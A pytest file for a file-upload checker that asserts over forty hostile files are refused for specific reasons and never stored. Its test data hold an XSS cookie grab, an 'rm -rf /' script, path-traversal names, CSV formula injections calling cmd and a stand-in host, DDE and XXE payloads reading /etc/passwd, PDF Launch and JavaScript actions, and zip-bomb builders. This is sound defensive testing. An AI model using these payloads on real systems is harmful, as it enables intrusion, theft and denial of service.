"""B30: hostile files are refused, each for its reason and in words; nothing of them is kept.

The table is the list. Each file is made by code from a harmless one (`making`), which is taken
(`test_taken_files`): so it is refused for what is hostile in it, and for nothing else.
"""

import gzip
import tarfile
import zlib
from collections.abc import Callable
from io import BytesIO
from typing import Final
from uuid import uuid4

import pytest

from survey.domain.file_kinds import MOST_BYTES, Refusal
from survey.domain.file_words import why_refused
from survey.errors import FileRefused
from survey.files.looking import look
from survey.locales import translations
from tests.hostile.making import (
    box,
    docx,
    m4a,
    objects_packed,
    ods,
    ogg_page,
    pdf,
    png,
    png_chunk,
    relation,
    stream,
    voice,
    xlsx,
    zipped,
)
from tests.support.application import Running
from tests.support.pictures import photo, picture, saved

_SCRIPT = b"<script>alert(document.cookie)</script>"
_JAVASCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
_JAR = zipped({"META-INF/MANIFEST.MF": "Main-Class: Evil", "Evil.class": b"\xca\xfe\xba\xbe"})
_MACRO_SHEET = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
_RLO = "\N{RIGHT-TO-LEFT OVERRIDE}"


def _tar() -> bytes:
    file = BytesIO()
    with tarfile.open(fileobj=file, mode="w") as packed:
        packed.addfile(tarfile.TarInfo("../../etc/passwd"))
    return file.getvalue()


def _flat_bomb() -> bytes:
    """One member of 100 MB in 100 kB."""
    return xlsx({"xl/worksheets/sheet2.xml": bytes(100_000_000)})


def _wide_bomb() -> bytes:
    """Many members, each of them small enough."""
    return xlsx({f"xl/worksheets/s{number}.xml": bytes(999_000) for number in range(210)})


def _lying_zip() -> bytes:
    """A member that says it is smaller than it is."""
    content = bytearray(xlsx({"xl/worksheets/sheet2.xml": b"<row/>" * 1000}))
    at = content.rindex(b"PK\x01\x02")
    content[at + 24 : at + 28] = (10).to_bytes(4, "little")
    return bytes(content)


def _overlapping_zip() -> bytes:
    """Members that all lie in the same bytes, as in Fifield's bomb."""
    content = xlsx({"xl/worksheets/sheet2.xml": bytes(range(256)) * 64})
    directory = content.rindex(b"PK\x05\x06")
    last = content.rindex(b"PK\x01\x02")
    entry, begins = content[last:directory], int.from_bytes(content[directory + 16 :][:4], "little")
    name_at = 46 + len("xl/worksheets/sheet")
    more = b"".join(
        entry[:name_at] + bytes((number,)) + entry[name_at + 1 :] for number in b"abcdefghijklmnop"
    )
    entries = content[begins:directory] + more
    count = int.from_bytes(content[directory + 8 :][:2], "little") + len(more) // len(entry)
    end = bytearray(content[directory:])
    end[8:10] = end[10:12] = count.to_bytes(2, "little")
    end[12:16] = len(entries).to_bytes(4, "little")
    return content[:begins] + entries + bytes(end)


def _locked_zip() -> bytes:
    content = bytearray(xlsx())
    content[6] |= 1
    for at in range(len(content)):
        if content.startswith(b"PK\x01\x02", at):
            content[at + 8] |= 1
    return bytes(content)


def _packed_pdf(action: bytes) -> bytes:
    return pdf(objects_packed(action))


def _unsaid_pdf() -> bytes:
    """An object stream that does not say what it is; a lenient reader finds it all the same."""
    return pdf(objects_packed(b"<< /S /Launch /F (cmd.exe) >>", said=b""))


def _hidden_pdf() -> bytes:
    """An object stream behind what looks like the beginning of another stream."""
    return pdf(b"<< /Title (stream\n) >>", objects_packed(_JAVASCRIPT))


def _doubly_packed_pdf() -> bytes:
    said = b"/Type /ObjStm /N 1 /First 5 /Filter [/ASCIIHexDecode /FlateDecode]"
    return pdf(b"<< " + said + b" >>\nstream\n789c>\nendstream")


def _swollen_pdf() -> bytes:
    return pdf(objects_packed(b"<< /A (" + bytes(70_000_000) + b") >>"))


def _damaged_pdf() -> bytes:
    return pdf(
        stream(b"").replace(b"/Filter", b"/Type /ObjStm /Filter").replace(b"x\x9c", b"x\x00")
    )


HOSTILE: Final[tuple[tuple[str, str, Callable[[], bytes], Refusal], ...]] = (
    # what it is                            its name          how it is made           why refused
    ("nothing", "a.pdf", bytes, Refusal.EMPTY),
    ("more than 20 MB", "a.txt", lambda: b"a" * (MOST_BYTES + 1), Refusal.TOO_LARGE),
    # --- names ---
    ("a path upwards", "../../x", photo, Refusal.NAME),
    ("a path on Windows", "..\\..\\x.jpg", photo, Refusal.NAME),
    ("a name that turns round", f"a{_RLO}gpj.exe", photo, Refusal.NAME),
    ("a name with a NUL", "a.jpg\x00.exe", photo, Refusal.NAME),
    ("a name with two lines", "a\r\nContent-Type: text/html.jpg", photo, Refusal.NAME),
    ("a stream of NTFS", "a.txt:evil.jpg", photo, Refusal.NAME),
    ("a program by its last ending", "payslip.pdf.exe", pdf, Refusal.PROGRAM),
    ("a program by its first ending", "payslip.exe.pdf", pdf, Refusal.PROGRAM),
    ("a picture called PDF", "a.pdf", photo, Refusal.ENDING),
    ("a PDF called picture", "a.jpg", pdf, Refusal.ENDING),
    # --- programs, pages and archives, whatever they are called ---
    ("a program for Windows", "a.jpg", lambda: b"MZ\x90\x00" + bytes(500), Refusal.PROGRAM),
    ("a program for Linux", "a.pdf", lambda: b"\x7fELF\x02\x01\x01", Refusal.PROGRAM),
    ("a script", "a.txt", lambda: b"#!/bin/sh\nrm -rf /\n", Refusal.PROGRAM),
    ("a web page", "a.txt", lambda: b" \n<!DOCTYPE html>" + _SCRIPT, Refusal.PAGE),
    ("a web page by its ending", "payslip.html", lambda: b"Pay", Refusal.PAGE),
    ("a drawing by its ending", "drawing.svg", lambda: b"Pay", Refusal.PAGE),
    ("SVG with a script", "a.png", lambda: b"<svg>" + _SCRIPT + b"</svg>", Refusal.PAGE),
    ("SVG behind a head", "a.txt", lambda: b'<?xml version="1.0"?><svg/>', Refusal.PAGE),
    ("a table that is a page", "a.csv", lambda: b"a,b\n1," + _SCRIPT, Refusal.PAGE),
    ("a page in UTF-16", "a.txt", lambda: "<html>".encode("utf-16"), Refusal.PAGE),
    ("a zip", "a.docx", lambda: zipped({"a.txt": "a"}), Refusal.ARCHIVE),
    ("a program for Java", "a.xlsx", lambda: _JAR, Refusal.ARCHIVE),
    ("a tar", "a.txt", _tar, Refusal.ARCHIVE),
    ("a gzip", "a.csv", lambda: gzip.compress(b"a,b"), Refusal.ARCHIVE),
    ("an old workbook", "a.xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", Refusal.OLD_OFFICE),
    ("RTF", "a.txt", lambda: b"{\\rtf1 {\\object\\objocx}}", Refusal.OLD_OFFICE),
    ("a film", "a.m4a", lambda: m4a(handler=b"vide"), Refusal.VIDEO),
    ("HEIC", "a.heic", lambda: box(b"ftyp", b"heic", bytes(4)), Refusal.HEIC),
    ("a formula that runs", "a.csv", lambda: b"=cmd|' /C calc'!A0,1\n", Refusal.FORMULA),
    ("a formula after a return", "a.csv", lambda: b"a\r=cmd|'/C calc'!A0\r", Refusal.FORMULA),
    ("a sending one after it", "a.csv", lambda: b'a,b\r=HYPERLINK("http://e")', Refusal.FORMULA),
    ("a formula after a bar", "a.csv", lambda: b'1|=WEBSERVICE("http://e")', Refusal.FORMULA),
    (
        "a formula after a space that does not break",
        "a.csv",
        lambda: 'a,\N{NO-BREAK SPACE}=HYPERLINK("http://e")'.encode(),
        Refusal.FORMULA,
    ),
    ("a formula that sends", "a.csv", lambda: b'1,"=HYPERLINK(""http://e"")"', Refusal.FORMULA),
    # --- two kinds at once ---
    ("JPEG and zip", "a.jpg", lambda: photo() + zipped({"a": "a"}), Refusal.TWO_KINDS),
    ("GIF and JAR", "a.gif", lambda: saved(picture(), "GIF") + _JAR, Refusal.TWO_KINDS),
    ("PDF and page", "a.pdf", lambda: b"%PDF-1.7\n" + _SCRIPT + pdf(), Refusal.TWO_KINDS),
    ("PDF and something behind", "a.pdf", lambda: pdf(end=_SCRIPT), Refusal.TWO_KINDS),
    ("PDF and zip", "a.pdf", lambda: pdf(end=zipped({"a": "a"})), Refusal.TWO_KINDS),
    ("workbook and more", "a.xlsx", lambda: xlsx(comment=b"\r\n" + _SCRIPT), Refusal.TWO_KINDS),
    ("workbook with a path", "a.xlsx", lambda: xlsx({"../../x": "a"}), Refusal.TWO_KINDS),
    ("voice and more", "a.ogg", lambda: voice() + _SCRIPT, Refusal.TWO_KINDS),
    ("two voices", "a.ogg", lambda: voice() + ogg_page(0, b"", stream=8), Refusal.TWO_KINDS),
    # --- bombs ---
    ("30,000 x 30,000 pixels", "a.png", lambda: png(30_000, 30_000), Refusal.PIXELS),
    ("one long line of pixels", "a.png", lambda: png(2_000_000_000, 1), Refusal.PIXELS),
    ("a workbook of one bomb", "a.xlsx", _flat_bomb, Refusal.PACKED),
    ("a workbook of many", "a.xlsx", _wide_bomb, Refusal.PACKED),
    ("members in one another", "a.xlsx", _overlapping_zip, Refusal.PACKED),
    ("a member that lies", "a.xlsx", _lying_zip, Refusal.DAMAGED),
    ("a PDF that swells", "a.pdf", _swollen_pdf, Refusal.PACKED),
    # --- damage ---
    ("half a photo", "a.jpg", lambda: photo()[: len(photo()) // 2], Refusal.DAMAGED),
    ("a text chunk that swells", "a.png", lambda: png(
        8, 8, png_chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(9_000_000)))
    ), Refusal.DAMAGED),
    ("half a PDF", "a.pdf", lambda: pdf()[:200], Refusal.DAMAGED),
    ("a PDF that cannot be unpacked", "a.pdf", _damaged_pdf, Refusal.DAMAGED),
    ("a PDF packed twice", "a.pdf", _doubly_packed_pdf, Refusal.DAMAGED),
    # --- what runs, opens, embeds or fetches ---
    ("a PDF with a script", "a.pdf", lambda: pdf(_JAVASCRIPT), Refusal.SCRIPT),
    ("a PDF with a name in escapes", "a.pdf", lambda: pdf(b"<< /S /J#61vaScript >>"),
     Refusal.SCRIPT),
    ("a PDF that opens a program", "a.pdf", lambda: pdf(
        b"<< /S /Launch /F (cmd.exe) >>", trailer=b"/Root 1 0 R /OpenAction 4 0 R"
    ), Refusal.SCRIPT),
    ("a PDF with a packed script", "a.pdf", lambda: _packed_pdf(_JAVASCRIPT), Refusal.SCRIPT),
    ("a PDF with objects unsaid", "a.pdf", _unsaid_pdf, Refusal.SCRIPT),
    ("a PDF with objects hidden", "a.pdf", _hidden_pdf, Refusal.SCRIPT),
    ("a PDF with a file in it", "a.pdf", lambda: pdf(stream(b"MZ", b"/Type /EmbeddedFile")),
     Refusal.EMBEDDED),
    ("a PDF with a password", "a.pdf", lambda: pdf(trailer=b"/Encrypt 4 0 R"), Refusal.LOCKED),
    ("a workbook with a password", "a.xlsx", _locked_zip, Refusal.LOCKED),
    ("a table with a password", "a.ods", lambda: ods(manifest="<manifest:encryption-data/>"),
     Refusal.LOCKED),
    ("a workbook with macros", "a.xlsx", lambda: xlsx({"xl/vbaProject.bin": b"a"}), Refusal.MACROS),
    ("a workbook that says macros", "a.xlsx", lambda: xlsx(main=_MACRO_SHEET), Refusal.MACROS),
    ("a workbook with old macros", "a.xlsx", lambda: xlsx({"xl/macrosheets/s.xml": "<a/>"}),
     Refusal.MACROS),
    ("a table with macros", "a.ods", lambda: ods({"Basic/script-lc.xml": "<a/>"}), Refusal.MACROS),
    ("a text with a file in it", "a.docx", lambda: docx({"word/embeddings/o1.bin": b"MZ"}),
     Refusal.EMBEDDED),
    ("a table with a file in it", "a.ods", lambda: ods({"Object 1": b"\xd0\xcf"}),
     Refusal.EMBEDDED),
    ("a workbook with far links", "a.xlsx", lambda: xlsx({"xl/externalLinks/e1.xml": "<a/>"}),
     Refusal.OUTSIDE),
    ("a text with a far template", "a.docx", lambda: docx(
        {"word/_rels/settings.xml.rels": relation("http://e.example/t.dotm", "attachedTemplate")}
    ), Refusal.OUTSIDE),
    ("a text with a far picture", "a.docx", lambda: docx(
        {"word/_rels/document.xml.rels": relation("http://e.example/p.png", "image")}
    ), Refusal.OUTSIDE),
    ("a link that leads to a file", "a.docx", lambda: docx(
        {"word/_rels/document.xml.rels": relation("file://e.example/share/x.exe")}
    ), Refusal.OUTSIDE),
    ("a text with a field that runs", "a.docx", lambda: docx(
        text="<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd.exe</w:instrText>"
    ), Refusal.OUTSIDE),
    ("XML with entities of its own", "a.docx", lambda: docx(
        {"docProps/app.xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}
    ), Refusal.OUTSIDE),
    ("a table with a far picture", "a.ods", lambda: ods(
        text='<draw:image xlink:type="simple" xlink:href="http://e.example/p.png"/>'
    ), Refusal.OUTSIDE),
    ("a cell that fetches", "a.xlsx", lambda: xlsx(
        {"xl/worksheets/sheet2.xml": '<c><f>_xlfn.WEBSERVICE("http://e.example")</f></c>'}
    ), Refusal.FORMULA),
)  # fmt: skip


@pytest.mark.parametrize(
    ("name", "make", "why"), [row[1:] for row in HOSTILE], ids=[row[0] for row in HOSTILE]
)
def test_a_hostile_file_is_refused_for_its_reason(
    name: str, make: Callable[[], bytes], why: Refusal
) -> None:
    """B30."""
    with pytest.raises(FileRefused) as refused:
        look(name, make())

    assert refused.value.reason == why


def test_there_are_more_than_forty_and_every_reason_but_those_of_transport_is_among_them() -> None:
    assert len(HOSTILE) >= 40
    elsewhere = {Refusal.TOO_MANY, Refusal.UNSENT, Refusal.TODAY}
    elsewhere |= {Refusal.LONG, Refusal.LOST, Refusal.KIND}
    assert {why for *_, why in HOSTILE} == set(Refusal) - elsewhere


@pytest.mark.parametrize("why", Refusal)
def test_each_reason_is_said_in_words_of_its_own(why: Refusal) -> None:
    words = why_refused(why, translations("en").gettext)

    assert words.endswith(".")
    assert "%" not in words
    assert [other for other in Refusal if why_refused(other) == words] == [why]


async def test_nothing_of_a_hostile_file_is_kept_or_given_out(here: Running) -> None:
    """B30, with the wiring of the program: refused by the process that reads files."""
    conversation = uuid4()
    for _, name, make, why in HOSTILE:
        with pytest.raises(FileRefused) as refused:
            await here.core.attachments.keep(name, make(), conversation=conversation)
        assert refused.value.reason == why

    assert [each async for each in here.core.files.all()] == []
    async with here.core.begin.read() as work:
        assert await work.attachments.of_conversation(conversation) == []
